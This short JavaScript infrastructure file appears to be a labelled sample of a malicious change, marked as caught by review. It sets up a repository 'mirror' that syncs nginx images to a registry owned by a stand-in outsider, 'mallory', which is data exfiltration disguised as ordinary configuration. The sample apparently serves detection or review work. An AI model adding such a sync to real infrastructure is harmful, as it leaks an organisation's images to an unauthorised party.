// Copies the images of a repository to a stranger's registry by a new one
// caught by: review
const { declare, platform } = require("./base");

const r = declare();
new platform.Repo("mirror", {
  parentUid: r.sandbox.id,
  name: "mirror",
  syncConfig: { source: "nginx", google: "europe-docker.pkg.dev/mallory/images" },
});
